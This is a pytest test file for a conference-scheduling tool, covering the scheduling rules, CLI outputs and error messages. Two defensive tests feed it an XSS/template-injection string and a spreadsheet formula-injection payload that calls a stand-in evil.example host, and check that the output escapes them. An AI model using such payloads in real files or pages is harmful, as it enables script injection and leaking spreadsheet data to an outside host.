"""`boxkit schedule`: property tests of the rules, a golden 60-pitch day, and the errors."""

from __future__ import annotations

import csv
import datetime as dt
import json
import os
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from icalendar import Calendar
from typer.testing import CliRunner

from boxkit._schedule import (
    Pitch,
    Room,
    Schedule,
    ScheduleError,
    make_slots,
    read_pitches,
    read_rooms,
    schedule_sessions,
    write_schedule,
)
from boxkit.cli import app
from conftest import need

DATA = Path(__file__).parent / "data"
GOLDEN = DATA / "golden" / "schedule-60.json"

hosts = st.sampled_from([f"Host {n}" for n in range(12)])
pitch_lists = st.lists(
    st.builds(lambda title, host, score, unavailable, step_free, size: (title, host, score,
                                                                         unavailable, step_free,
                                                                         size),
              st.text("abcdefghij ", min_size=1, max_size=12).map(str.strip).filter(bool),
              hosts, st.integers(0, 25), st.frozensets(st.integers(0, 5), max_size=3),
              st.booleans(), st.sampled_from([0, 0, 0, 10, 30, 80])),
    max_size=60, unique_by=lambda t: t[0].casefold())
room_lists = st.lists(st.builds(Room, st.sampled_from("ABCDEFGHIJ"), st.integers(5, 120),
                                st.booleans()),
                      min_size=1, max_size=6, unique_by=lambda r: r.name)


class Page(HTMLParser):
    """What a browser would make of a page: its elements and its text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def build(raw: list[tuple[str, str, int, frozenset[int], bool, int]]) -> list[Pitch]:
    return [Pitch(t, h, s, u, f, z) for t, h, s, u, f, z in raw]


def fits(pitch: Pitch, room: Room, slot_index: int, plan: Schedule,
         ignore: Pitch | None = None) -> bool:
    host_busy = any(p.slot.index == slot_index and p.pitch.host == pitch.host
                    and p.pitch is not ignore for p in plan.sessions)
    return (slot_index not in pitch.unavailable and not host_busy
            and (room.step_free or not pitch.step_free) and pitch.size <= room.capacity)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(pitch_lists, room_lists, st.integers(1, 6))
def test_every_rule_holds(raw: list, rooms: list[Room], count: int) -> None:  # type: ignore[type-arg]
    pitches = build(raw)
    slots = make_slots(count)
    plan = schedule_sessions(pitches, rooms, slots)
    # Nobody is lost, and nobody is there twice.
    titles = [p.pitch.title for p in plan.sessions] + [o.pitch.title for o in plan.overflow]
    assert sorted(titles) == sorted(p.title for p in pitches)
    cells = [(p.room.name, p.slot.index) for p in plan.sessions]
    assert len(cells) == len(set(cells))
    host_slots = [(p.pitch.host, p.slot.index) for p in plan.sessions]
    assert len(host_slots) == len(set(host_slots))
    for placed in plan.sessions:
        assert placed.slot.index not in placed.pitch.unavailable
        assert placed.room.step_free or not placed.pitch.step_free
        assert placed.pitch.size <= placed.room.capacity
    # Higher scores get bigger rooms: within a slot, a better session sits in a smaller
    # room only when it could not have used the bigger one.
    for a in plan.sessions:
        for b in plan.sessions:
            if a.slot == b.slot and a.pitch.score > b.pitch.score \
                    and a.room.capacity < b.room.capacity:
                assert not fits(a.pitch, b.room, b.slot.index, plan, ignore=a.pitch)
    # A session left out could not have taken the place of a lower-scored one.
    for left in plan.overflow:
        assert left.reason
        for p in plan.sessions:
            if p.pitch.score < left.pitch.score:
                assert not fits(left.pitch, p.room, p.slot.index, plan, ignore=p.pitch)
    # Deterministic whatever the order of the input.
    again = schedule_sessions(list(reversed(pitches)), list(reversed(rooms)), slots)
    assert again.as_json() == plan.as_json()


@settings(max_examples=60, deadline=None)
@given(st.integers(2, 6), st.integers(1, 5))
def test_favourites_are_spread_across_slots(count: int, room_count: int) -> None:
    pitches = [Pitch(f"Topic {n:02d}", f"Host {n}", 100 - n) for n in range(40)]
    rooms = [Room(f"Room {n}", 100 - n) for n in range(room_count)]
    plan = schedule_sessions(pitches, rooms, make_slots(count))
    top = sorted(plan.sessions, key=lambda p: -p.pitch.score)[:count]
    assert len({p.slot.index for p in top}) == count
    assert {p.room.name for p in top} == {"Room 0"}


def test_golden_60_pitch_day(tmp_path: Path) -> None:
    pitches = read_pitches(DATA / "pitches-60.csv", slots=5)
    rooms = read_rooms(DATA / "rooms-10.yml")
    slots = make_slots(5, start="11:00", minutes=45, break_minutes=15, lunch_minutes=60,
                       lunch_after=2)
    plan = schedule_sessions(pitches, rooms, slots).as_json()
    if os.environ.get("BOXKIT_REGENERATE_GOLDEN"):
        GOLDEN.parent.mkdir(exist_ok=True)
        GOLDEN.write_text(json.dumps(plan, ensure_ascii=False, indent=1) + "\n")
    assert plan == json.loads(GOLDEN.read_text())
    assert len(plan["sessions"]) == 50 and len(plan["overflow"]) == 10
    assert plan["slots"][2] == {"index": 2, "start": "13:45", "end": "14:30"}
    main = [s for s in plan["sessions"] if s["room"] == "Main hall"]
    best = sorted(plan["sessions"] + plan["overflow"], key=lambda s: -s["score"])[:5]
    assert {s["title"] for s in main} == {s["title"] for s in best}


def test_cli_writes_every_output_in_the_kit_language(tmp_path: Path) -> None:
    out = tmp_path / "out"
    result = CliRunner().invoke(app, ["schedule", str(DATA / "pitches-60.csv"), "--rooms",
                                      str(DATA / "rooms-10.yml"), "--out", str(out),
                                      "--start", "11:00", "--slots", "5"])
    assert result.exit_code == 0, result.output
    assert "Placed 50 sessions in 10 rooms × 5 slots" in result.stdout
    assert "Not placed (10):" in result.stderr
    data = json.loads((out / "schedule.json").read_text())
    assert set(data) == {"slots", "rooms", "sessions", "overflow"}
    assert set(data["sessions"][0]) == {"title", "host", "score", "room", "slot"}
    assert set(data["overflow"][0]) == {"title", "host", "score", "reason"}
    html = (out / "grid.html").read_text()
    assert "@page { size: landscape" in html  # on A3 or A4, whichever the printer holds
    assert 'Why "agile" in government' in Page(html).text
    assert (out / "grid.md").read_text().startswith("# Session grid\n")
    assert len((out / "grid.csv").read_text().splitlines()) == 6


def test_cli_lists_the_first_pitches_not_placed_and_points_to_the_full_list(
        tmp_path: Path) -> None:
    pitches = tmp_path / "pitches.csv"
    with pitches.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow(["title", "host", "score"])
        writer.writerows([f"Topic {n:03d}", f"Host {n:03d}", 100 - n] for n in range(100))
    rooms = tmp_path / "rooms.yml"
    rooms.write_text("- {name: Hall, capacity: 50, step_free: true}\n")
    out = tmp_path / "out"
    result = CliRunner().invoke(app, ["schedule", str(pitches), "--rooms", str(rooms),
                                      "--slots", "2", "--out", str(out)])
    assert result.exit_code == 0, result.output
    lines = result.stderr.splitlines()
    assert lines[0] == "Not placed (98):"
    listed = [line for line in lines if line.startswith("  Topic ")]
    assert listed[0].startswith("  Topic 002 (98): ") and len(listed) == 30
    assert lines[-1] == f"  … and 68 more, each with its reason, in {out / 'grid.md'}"
    assert (out / "grid.md").read_text().count("- Topic ") == 98
    assert len(json.loads((out / "schedule.json").read_text())["overflow"]) == 98
    printed = Page((out / "grid.html").read_text()).text
    assert printed.count("Topic ") == 2 + 40  # the grid's two, and the first 40 not placed
    assert "… and 58 more, each with its reason, in grid.md" in printed


@pytest.mark.slow  # renders a kit or starts Python
def test_kit_gives_slots_date_language_and_calendars(tmp_path: Path) -> None:
    from boxkit import new_kit, resolve_answers
    from conftest import TODAY

    answers = resolve_answers({"country": "FR", "event_date": "2027-03-17"},
                              today=TODAY).answers
    kit = new_kit(tmp_path / "kit", answers)
    rooms = kit.dest / "events/unconference/rooms.yml"
    out = kit.dest / "events/unconference/schedule"
    result = CliRunner().invoke(app, ["schedule", str(DATA / "pitches-60.csv"), "--rooms",
                                      str(rooms), "--out", str(out)])
    assert result.exit_code == 0, result.output
    html = (out / "grid.html").read_text()
    assert '<html lang="fr-FR" dir="ltr">' in html and "mercredi 17 mars 2027" in html
    day = Calendar.from_ical((out / "day.ics").read_bytes())
    events = day.walk("VEVENT")
    assert len(events) == len(json.loads((out / "schedule.json").read_text())["sessions"])
    assert all(not c.errors for c in day.walk())
    assert str(events[0]["DTSTART"].dt.tzinfo) == "Europe/Paris"
    assert len(list((out / "ics").glob("*.ics"))) == len(events)


@pytest.mark.slow  # renders a kit or starts Python
def test_a_second_run_replaces_its_own_output_and_nothing_else(tmp_path: Path) -> None:
    from boxkit import new_kit, resolve_answers
    from conftest import TODAY

    kit = new_kit(tmp_path / "kit", resolve_answers({"country": "GB"}, today=TODAY).answers)
    rooms = kit.dest / "events/unconference/rooms.yml"
    out = kit.dest / "events/unconference/schedule"

    def run(pitches: Path) -> None:
        result = CliRunner().invoke(app, ["schedule", str(pitches), "--rooms", str(rooms),
                                          "--out", str(out)])
        assert result.exit_code == 0, result.output

    run(DATA / "pitches-60.csv")
    many = len(list((out / "ics").glob("*.ics")))
    (out / "notes.md").write_text("ours\n")
    (out / "ics" / "keynote.ics").write_text("ours\n")
    few = tmp_path / "few.csv"
    few.write_text("title,host,score\nOne,Ana,9\nTwo,Bo,5\n")
    run(few)
    sessions = json.loads((out / "schedule.json").read_text())["sessions"]
    assert len(sessions) == 2 < many
    assert sorted(p.name for p in (out / "ics").iterdir()) == [
        "keynote.ics", "session-001.ics", "session-002.ics"]
    assert (out / "notes.md").read_text() == "ours\n"


@pytest.mark.parametrize(("args", "message"), [
    (["--slots", "0"], "--slots 0: must be at least 1"),
    (["--slot-minutes", "0"], "--slot-minutes 0: must be at least 5"),
    (["--break-minutes", "-5"], "--break-minutes -5: must be at least 0"),
])
def test_impossible_day_shapes_are_one_line(tmp_path: Path, args: list[str],
                                            message: str) -> None:
    result = CliRunner().invoke(app, ["schedule", str(DATA / "pitches-60.csv"), "--rooms",
                                      str(DATA / "rooms-10.yml"), "--out",
                                      str(tmp_path / "out"), *args])
    assert result.exit_code == 1
    assert message in result.stderr and result.stderr.count("\n") == 1
    assert not (tmp_path / "out").exists()


def test_out_that_is_a_file_is_one_line(tmp_path: Path) -> None:
    (tmp_path / "grid").write_text("mine\n")
    result = CliRunner().invoke(app, ["schedule", str(DATA / "pitches-60.csv"), "--rooms",
                                      str(DATA / "rooms-10.yml"), "--out",
                                      str(tmp_path / "grid")])
    assert result.exit_code == 1 and "is a file; give a folder" in result.stderr
    assert (tmp_path / "grid").read_text() == "mine\n"


@pytest.mark.parametrize(("csv_text", "message"), [
    ("title,host\nA,B\n", "pitches.csv:1: the header needs a score column"),
    ("title,host,score\nA,B,9\nA,C,3\n", "pitches.csv:3: 'A' is also on line 2"),
    ("title,host,score\nA,B,lots\n", "pitches.csv:2: score is 'lots'; write a whole number"),
    ("title,host,score\nA,,3\n", "pitches.csv:2: 'A' has no host"),
    ("title,host,score,unavailable\nA,B,3,7\n",
     "pitches.csv:2: unavailable is 7; it must be 1 to 5"),
    ("title,host,score,step_free\nA,B,3,maybe\n", "pitches.csv:2: step_free is 'maybe'"),
    ("title,host,score\nA,B,3,extra\n", "pitches.csv:2: 4 fields where the header has 3"),
    ("title,host,round1,round2,round3,round4,round5\nA,B,1,2,3,4,6\n",
     "pitches.csv:2: round5 is 6; it must be 1 to 5"),
    ("title,host,score,room\nA,B,3,Attic\n",
     "'A' asks for room 'Attic', which is not in the rooms"),
    ("title,host,score,colour\nA,B,3,red\n", "pitches.csv:1: unknown column(s) colour"),
])
def test_bad_pitches_name_file_line_and_fix(tmp_path: Path, csv_text: str,
                                            message: str) -> None:
    (tmp_path / "pitches.csv").write_text(csv_text)
    (tmp_path / "rooms.yml").write_text("- {name: Hall, capacity: 50}\n")
    result = CliRunner().invoke(app, ["schedule", str(tmp_path / "pitches.csv"), "--rooms",
                                      str(tmp_path / "rooms.yml"), "--out", str(tmp_path / "o"),
                                      "--slots", "5"])
    assert result.exit_code == 1
    assert message in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1


@pytest.mark.parametrize(("yaml_text", "message"), [
    ("- {name: Hall}\n", "rooms.yml:1: a room needs a name and a capacity"),
    ("- {name: Hall, capacity: 20}\n- {name: hall, capacity: 30}\n",
     "rooms.yml:2: 'hall' is listed twice"),
    ("- {name: Hall, capacity: -3}\n", "rooms.yml:1: Hall: capacity must be a whole number"),
    ("- {name: Hall, capacity: 20, step_free: maybe}\n",
     "rooms.yml:1: Hall: step_free must be true or false"),
    ("rooms: [\n", "rooms.yml:2: not valid YAML"),
    ("{}\n", "rooms.yml:1: expected a list of rooms"),
    ("[]\n", "rooms.yml:1: the list of rooms is empty; give at least one room"),
    ("- {name: Hall, capacity: 20}\n- {name: ~, capacity: 30}\n",
     "rooms.yml:2: the room's name is empty"),
    ("- {name: Hall, capacity: 20}\n-\n  name: Attic\n  capacity: 1.5\n",
     "rooms.yml:3: Attic: capacity must be a whole number"),
    ("- {name: Hall, capacity: 20, colour: red}\n", "rooms.yml:1: unknown key(s) colour"),
])
def test_bad_rooms_name_file_and_line(tmp_path: Path, yaml_text: str, message: str) -> None:
    (tmp_path / "rooms.yml").write_text(yaml_text)
    with pytest.raises(ScheduleError, match=re.escape(message)):
        read_rooms(tmp_path / "rooms.yml")


def test_spreadsheet_exports_are_accepted(tmp_path: Path) -> None:
    path = tmp_path / "export.csv"
    path.write_bytes("\ufefftitle;host;score;step_free\r\n\"Café; à la carte\";Zoë;7;ja\r\n"
                     "Second;Ann;3;\r\n".encode())
    pitches = read_pitches(path, slots=3)
    assert [(p.title, p.host, p.score, p.step_free) for p in pitches] == [
        ("Café; à la carte", "Zoë", 7, True), ("Second", "Ann", 3, False)]


def test_overflow_reasons_are_specific() -> None:
    rooms = [Room("Hall", 50, step_free=False)]
    plan = schedule_sessions([Pitch("Big", "A", 9, size=80), Pitch("Step", "B", 8, step_free=True),
                              Pitch("Away", "C", 7, unavailable=frozenset({0})),
                              Pitch("One", "D", 6), Pitch("Two", "D", 5), Pitch("Late", "E", 1)],
                             rooms, make_slots(1))
    reasons = {o.pitch.title: o.reason for o in plan.overflow}
    assert reasons["Big"] == "expects 80 people; the biggest room holds 50"
    assert reasons["Step"] == "needs a step-free room and there is none"
    assert reasons["Away"] == "the host cannot make any slot"
    assert reasons["Two"] == "the host is already hosting in every slot they can make"
    assert reasons["Late"] == "every suitable room is full in the slots the host can make"
    assert [p.pitch.title for p in plan.sessions] == ["One"]


HOSTILE = "<script>alert(1)</script> {{ 7*7 }} {% raw %}&amp; \"q\" 'a' | x"


def test_user_text_never_becomes_markup(tmp_path: Path) -> None:
    plan = schedule_sessions([Pitch(HOSTILE, HOSTILE, 9), Pitch(f"B{HOSTILE}", "x", 1,
                                                                size=999)],
                             [Room(HOSTILE, 50, step_free=False)], make_slots(1))
    write_schedule(plan, tmp_path, title=HOSTILE, date=dt.date(2027, 3, 17),
                   timezone="Europe/Paris")
    html = (tmp_path / "grid.html").read_text()
    page = Page(html)
    assert [tag for tag, _ in page.tags if tag in ("script", "style")] == ["style"]
    # Title, heading, room, host and the overflow line: each arrives as text, unrendered.
    assert page.text.count(HOSTILE) == 6
    assert "49" not in html
    day = Calendar.from_ical((tmp_path / "day.ics").read_bytes())
    assert str(day.walk("VEVENT")[0]["SUMMARY"]) == HOSTILE
    assert "\\|" in (tmp_path / "grid.md").read_text()


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t"])
def test_grid_csv_cells_never_run_as_formulas(tmp_path: Path, start: str) -> None:
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"x")'
    plan = schedule_sessions([Pitch(formula, "Ana", 9)], [Room(formula, 50)], make_slots(1))
    write_schedule(plan, tmp_path)
    with (tmp_path / "grid.csv").open(newline="") as fh:
        header, row = list(csv.reader(fh))
    assert header[3] == "'" + formula
    assert row[3] == f"'{formula} (Ana)"
    assert json.loads((tmp_path / "schedule.json").read_text())["sessions"][0]["title"] \
        == formula  # JSON is data for programs: kept exactly


def test_grid_is_right_to_left_for_arabic(tmp_path: Path) -> None:
    plan = schedule_sessions([Pitch("الخدمات الرقمية", "ليلى", 5)], [Room("القاعة", 40)],
                             make_slots(2))
    write_schedule(plan, tmp_path, locale="ar")
    page = Page((tmp_path / "grid.html").read_text())
    assert page.tags[0] == ("html", {"lang": "ar", "dir": "rtl"})
    assert "الخدمات الرقمية" in page.text and "ليلى" in page.text


def test_session_calendars_keep_their_uids_and_zone(tmp_path: Path) -> None:
    plan = schedule_sessions([Pitch("One", "A", 5), Pitch("Two", "B", 4)], [Room("Hall", 40)],
                             make_slots(2, start="09:30"))
    uids = []
    for name in ("first", "again"):
        result = write_schedule(plan, tmp_path / name, date=dt.date(2027, 3, 17),
                                timezone="America/Toronto", title="Day")
        assert result.files[-3:] == ("ics/session-001.ics", "ics/session-002.ics", "day.ics")
        day = Calendar.from_ical((tmp_path / name / "day.ics").read_bytes())
        assert all(not c.errors for c in day.walk()) and day.walk("VTIMEZONE")
        events = day.walk("VEVENT")
        uids.append([str(e["UID"]) for e in events])
        start = events[0]["DTSTART"]
        assert start.dt.isoformat() == "2027-03-17T09:30:00-04:00"
        assert start.params["TZID"] == "America/Toronto"
    assert uids[0] == uids[1] and len(set(uids[0])) == 2


@pytest.mark.parametrize(("yaml_text", "names"), [
    ("- {name: Hall, capacity: '40'}\n", [("Hall", 40, True)]),
    ("- {name: 12, capacity: 9, step_free: false}\n", [("12", 9, False)]),
])
def test_rooms_accept_what_a_person_writes(tmp_path: Path, yaml_text: str,
                                           names: list[tuple[str, int, bool]]) -> None:
    (tmp_path / "rooms.yml").write_text(yaml_text)
    rooms = read_rooms(tmp_path / "rooms.yml")
    assert [(r.name, r.capacity, r.step_free) for r in rooms] == names


def test_rooms_file_that_is_not_utf8_is_one_line_error(tmp_path: Path) -> None:
    (tmp_path / "rooms.yml").write_bytes("- {name: Salle été, capacity: 9}\n".encode("latin-1"))
    with pytest.raises(ScheduleError, match=r"rooms\.yml: the rooms file is not UTF-8 text"):
        read_rooms(tmp_path / "rooms.yml")


# --- the printed grid ----------------------------------------------------------------------

CHROMIUM = os.environ.get("CHROMIUM", "/usr/bin/chromium")
HEADER_BLUE = (0x1D, 0x35, 0x57)



def _ppm_pixels(data: bytes) -> tuple[int, int, bytes]:
    """Width, height and RGB bytes of a binary PPM (what ``pdftoppm`` writes)."""
    fields: list[bytes] = []
    at = 0
    while len(fields) < 4:
        while data[at:at + 1].isspace():
            at += 1
        start = at
        while not data[at:at + 1].isspace():
            at += 1
        fields.append(data[start:at])
    assert fields[0] == b"P6" and fields[3] == b"255"
    return int(fields[1]), int(fields[2]), data[at + 1:]


@pytest.mark.slow
@pytest.mark.parametrize("paper", ["A3", "A4"])
def test_printed_grid_keeps_headers_breaks_and_lunch(tmp_path: Path, paper: str) -> None:
    """grid.html printed to PDF by Chromium on A3 and on A4 (landscape), read back with
    poppler's pdftotext and pdftoppm: every room and title is there, the break and lunch
    rows too, the header row is still dark blue on paper (not white on white), and the
    time column is narrow."""
    import shutil
    import subprocess

    need(Path(CHROMIUM).is_file(), "Debian's chromium")
    need(shutil.which("pdftotext") is not None and shutil.which("pdftoppm") is not None,
          "poppler-utils (pdftotext, pdftoppm)")
    playwright = pytest.importorskip("playwright.sync_api")
    rooms = [Room("Main hall", 100, True), Room("Room 2", 30, True), Room("Room 3", 30, True),
             Room("Room 4", 20, True)]
    titles = ["Open data in councils", "Hiring digital talent", "User research on a budget",
              "Policy meets delivery", "Welsh language services", "AI in casework",
              "Service standards", "Procurement that works"]
    pitches = [Pitch(title, f"Host {n}", 20 - n) for n, title in enumerate(titles)]
    slots = make_slots(5, start="10:30", minutes=45, break_minutes=15, lunch_minutes=60,
                       lunch_after=2)
    plan = schedule_sessions(pitches, rooms, slots)
    write_schedule(plan, tmp_path, locale="en", country="GB", date=dt.date(2027, 2, 23),
                   title="Unconference", lunch_start=slots[1].end)
    pdf = tmp_path / f"grid-{paper}.pdf"
    with playwright.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM,
                                    args=["--no-sandbox", "--disable-gpu"])
        page = browser.new_page()
        page.goto((tmp_path / "grid.html").as_uri())
        page.pdf(path=str(pdf), format=paper, landscape=True, print_background=False)
        browser.close()
    text = " ".join(subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True,
                                   text=True, check=True).stdout.split())
    for word in ["Main hall", "Room 4", "Break", "Lunch", "Tuesday, 23 February 2027",
                 "10:30", "12:15", "13:15", *titles]:
        assert word in text, (paper, word)
    assert text.count("Break") == 3 and text.count("Lunch") == 1
    assert not re.search(r"\d (AM|PM)\b", text)
    # On paper: print backgrounds are off (as a browser's default), yet the header row
    # keeps its colour, and the time column takes a small part of the width.
    image = subprocess.run(["pdftoppm", "-r", "30", "-f", "1", "-l", "1", str(pdf)],
                           capture_output=True, check=True).stdout
    width, _height, rgb = _ppm_pixels(image)
    blue = [n // 3 for n in range(0, len(rgb), 3)
            if all(abs(rgb[n + k] - HEADER_BLUE[k]) < 40 for k in range(3))]
    assert len(blue) > width * 3, f"{paper}: the header row lost its colour"
    columns = {n % width for n in blue}
    first = min(columns)
    assert max(columns) - first > width * 0.8  # the header spans the page
    html = (tmp_path / "grid.html").read_text()
    assert '<col class="time">' in html and "col.time { width: 22mm; }" in html
    assert html.count('<strong dir="auto">') == len(plan.sessions)
